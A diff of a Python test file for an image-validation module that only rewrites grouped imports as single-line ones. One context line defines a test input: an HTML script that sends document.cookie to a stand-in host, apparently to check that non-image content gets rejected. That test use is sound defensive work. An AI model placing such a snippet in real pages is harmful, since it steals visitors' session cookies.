@@ -13,22 +13,22 @@ import pytest
 from PIL import Image
 
 from prep.catalog import Catalog
-from prep.image_check import (
-    DATOS_ANEXOS,
-    DEMASIADO_GRANDE,
-    INCOMPLETA,
-    JPEG,
-    NO_DECODIFICA,
-    PNG,
-    TIFF,
-    TIPO_NO_ADMITIDO,
-    TIPO_NO_COINCIDE,
-    ImageRejected,
-    declared_by_name,
-    verify_image,
-)
-from prep.sintetico.acta_image import ActaImageOptions, render_acta_image
-from tests.harness.images import padded_jpeg, tiny_png
+from prep.image_check import DATOS_ANEXOS
+from prep.image_check import DEMASIADO_GRANDE
+from prep.image_check import INCOMPLETA
+from prep.image_check import JPEG
+from prep.image_check import NO_DECODIFICA
+from prep.image_check import PNG
+from prep.image_check import TIFF
+from prep.image_check import TIPO_NO_ADMITIDO
+from prep.image_check import TIPO_NO_COINCIDE
+from prep.image_check import ImageRejected
+from prep.image_check import declared_by_name
+from prep.image_check import verify_image
+from prep.sintetico.acta_image import ActaImageOptions
+from prep.sintetico.acta_image import render_acta_image
+from tests.harness.images import padded_jpeg
+from tests.harness.images import tiny_png
 
 HTML = b"<html><script>fetch('https://example.invalid/'+document.cookie)</script></html>"
 
